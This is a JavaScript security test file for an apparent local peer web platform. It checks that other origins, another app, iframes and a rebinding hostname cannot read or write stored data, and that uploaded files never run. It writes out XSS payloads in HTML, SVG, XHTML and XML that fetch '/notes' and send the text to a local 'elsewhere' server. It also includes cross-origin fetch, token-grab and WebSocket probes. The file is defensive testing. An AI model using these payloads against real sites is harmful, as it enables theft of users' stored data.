// A third origin tries to read and to write, and fails: a page elsewhere on this machine, another app, a frame, a name that
// means this machine. And what is stored is shown, and never run.

import { createServer } from "node:http";
import { http, openApp, peers, person, same, timebus, until, withBrowser } from "./web.mjs";

const [peer] = peers;
await http(peer, "/notes", { method: "PUT", headers: { "content-type": "application/json" }, body: '"secret"' });
await http(peer, "/boards/a", { method: "PUT", headers: { "content-type": "application/json" }, body: '"mine"' });

/** What was asked for by pages that should not have run. @type {string[]} */
const ran = [];
const server = createServer(({ url }, response) => {
  if (url?.startsWith("/ran")) ran.push(url);
  response.end("<!doctype html><title>elsewhere</title>");
});
await new Promise((resolve) => server.listen(0, "127.0.0.1", () => resolve(undefined)));
const elsewhere = `http://127.0.0.1:${server.address().port}/`;

/** Runs in a page: tries everything that a page can; answers what worked. */
async function attack({ port, me }) {
  const worked = [];
  // Browsers say of some things that they blocked, and of others nothing.
  const soon = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, 500))]);
  const roots = [
    `http://localhost:${port}`,
    `http://127.0.0.1:${port}`,
    `http://board.localhost:${port}`,
    `http://chirp.localhost:${port}`,
  ].filter((root) => root !== location.origin);
  for (const root of roots) {
    for (const path of ["/notes", "/boards/a", `/@${me}/boards/a`, "/.sys/status", "/.sys/app", "/.sys/apps"]) {
      for (const mode of ["cors", "no-cors"]) {
        try {
          const response = await fetch(root + path, {
            mode,
            headers: mode === "cors" ? { authorization: "Bearer x" } : {},
          });
          const text = await response.text();
          if (text !== "") worked.push(`read ${root}${path}: ${text}`);
        } catch {}
        for (const body of ['"hacked"', new URLSearchParams({ a: "b" })])
          await fetch(root + path, { method: "POST", mode, body }).catch(() => {});
        await fetch(root + path, { method: "PUT", mode, body: '"hacked"' }).catch(() => {});
      }
    }
    for (const mode of ["cors", "no-cors"]) {
      try {
        const response = await fetch(`${root}/.sys/token`, { method: "POST", body: "{}", mode });
        if ((await response.text()) !== "") worked.push(`token of ${root}`);
      } catch {}
    }
    await soon(
      new Promise((resolve) => {
        const socket = new WebSocket(`${root.replace("http", "ws")}/`, "timebus.v1");
        socket.onopen = () => (worked.push(`socket to ${root}`), socket.close());
        socket.onclose = resolve;
      }).catch(() => {}),
    );
    const script = document.createElement("script");
    script.src = `${root}/@${me}/boards/a`;
    await soon(
      new Promise((resolve) => {
        script.onload = () => (worked.push(`script from ${root}`), resolve(undefined));
        script.onerror = resolve;
        document.head.append(script);
      }),
    );
  }
  return worked;
}

/** Shows pages of the peer in frames; answers those that a browser did show. */
async function framed(/** @type {import("playwright-core").Page} */ page, /** @type {string[]} */ urls) {
  const shown = [];
  for (const url of urls) {
    await page.evaluate(async (url) => {
      const frame = document.createElement("iframe");
      await new Promise((resolve) => {
        frame.onload = resolve;
        frame.src = url;
        document.body.append(frame);
      });
    }, url);
    const frames = page.frames().filter((frame) => frame !== page.mainFrame());
    // A page that took its place is known a little after it was loaded.
    for (let tries = 0; tries < 50 && frames.some((frame) => frame.url() === ""); tries++) await page.waitForTimeout(20);
    shown.push(...frames.map((frame) => frame.url()).filter((url) => !url.startsWith("chrome-error:")));
    await page.evaluate(() => document.querySelector("iframe")?.remove());
  }
  return shown;
}

/** Stores documents that would run something, and opens each of them. */
async function stored(/** @type {import("playwright-core").BrowserContext} */ context) {
  const run = (/** @type {string} */ name) => `new Image().src="${elsewhere}ran-${name}";fetch("/notes").then((r)=>r.text()).then((t)=>location="${elsewhere}ran-${name}?"+t)`;
  const svg = (/** @type {string} */ name) =>
    `<svg xmlns="http://www.w3.org/2000/svg" onload='${run(name)}'><script>${run(name).replaceAll("&", "&amp;").replaceAll(">", "&gt;")}</script></svg>`;
  const documents = [
    ["page.html", "text/html", `<!doctype html><script>${run("html")}</script><img src=x onerror='${run("img")}'>`],
    ["page.xhtml", "application/xhtml+xml", `<html xmlns="http://www.w3.org/1999/xhtml"><body onload='${run("xhtml").replaceAll(">", "&gt;")}'/></html>`],
    ["picture.svg", "image/svg+xml", svg("svg")],
    ["feed.xml", "text/xml", `<?xml version="1.0"?>${svg("xml")}`],
    ["words.txt", "text/plain", `<!doctype html><script>${run("text")}</script>`],
    ["unknown", "application/octet-stream", `<!doctype html><script>${run("unknown")}</script>`],
  ];
  for (const [name, type, body] of documents) {
    await http(peer, `/stored/${name}`, { method: "PUT", headers: { "content-type": type }, body });
    for (const root of [`http://localhost:${peer.port}`, `http://board.localhost:${peer.port}/@${peer.id}`]) {
      const page = await context.newPage();
      // What is not shown is saved: that is no page to go to.
      await page.goto(`${root}/stored/${name}`).catch(() => {});
      await page.waitForTimeout(200);
      await page.close();
    }
  }
}

await withBrowser(async (browser) => {
  const { page, context } = await person(browser);
  await openApp(peer, page, "board");
  await page.getByRole("heading", { name: "Your boards" }).waitFor();
  const control = await context.newPage();
  await control.setContent(`<!doctype html><script>new Image().src="${elsewhere}ran-control"</script>`);
  await until("what runs is noticed", () => ran.length > 0);
  same(ran.splice(0), ["/ran-control"], "what ran");
  await control.close();
  await stored(context);
  same(ran, [], "what is stored does not run");
  const rebound = await context.newPage();
  for (const path of ["/notes", "/", "/.sys/status", "/.gui/main.js"]) {
    const answer = await rebound.goto(`http://rebound.example:${peer.port}${path}`);
    same([answer?.status(), (await answer?.text())?.includes("secret")], [421, false], `${path} by a name that is none of the peer's`);
  }
  await rebound.close();
  const other = await context.newPage();
  await other.goto(elsewhere);
  same(await other.evaluate(attack, { port: peer.port, me: peer.id }), [], "what a page elsewhere could do");
  await openApp(peer, other, "chirp");
  await other.getByRole("textbox", { name: "What is happening?" }).waitFor();
  same(await other.evaluate(attack, { port: peer.port, me: peer.id }), [], "what another app could do");
  const origins = ["localhost", "127.0.0.1", "board.localhost", "chirp.localhost"].map((host) => `http://${host}:${peer.port}/`);
  await other.goto(elsewhere);
  same(await framed(other, [elsewhere]), [elsewhere], "a frame that may be shown is");
  same(await framed(other, origins), [], "pages of the peer in frames elsewhere");
  await openApp(peer, other, "chirp");
  await other.getByRole("textbox", { name: "What is happening?" }).waitFor();
  // Nothing answers in the place of the peer, or stays when an app goes.
  const worker = await other.evaluate(() =>
    navigator.serviceWorker.register("/main.js").then(
      () => "registered",
      (error) => error.name,
    ),
  );
  same(worker, "TypeError", "a service worker");
  // Its own token opens nothing that its card did not name.
  const beyond = await other.evaluate(
    async ({ me }) => {
      const { token } = await (await fetch("/.sys/token", { method: "POST", body: "{}" })).json();
      const ask = async (path, method) =>
        (
          await fetch(path, {
            method,
            headers: { authorization: `Bearer ${token}` },
            body: method === "PUT" ? '"hacked"' : undefined,
          })
        ).status;
      return [
        await ask(`/@${me}/notes`, "GET"),
        await ask(`/@${me}/boards/a`, "GET"),
        await ask(`/@${me}/boards/a`, "PUT"),
        await ask("/.sys/status", "GET"),
      ];
    },
    { me: peer.id },
  );
  same(beyond, [403, 403, 403, 403], "what chirp may not");
});
server.close();
same((await http(peer, "/notes")).json(), "secret", "the value that nobody was given");
same((await http(peer, "/boards/a")).json(), "mine", "the value of another app");
timebus(peer, "app", "remove", "board");
console.log("nothing was read and nothing was written");
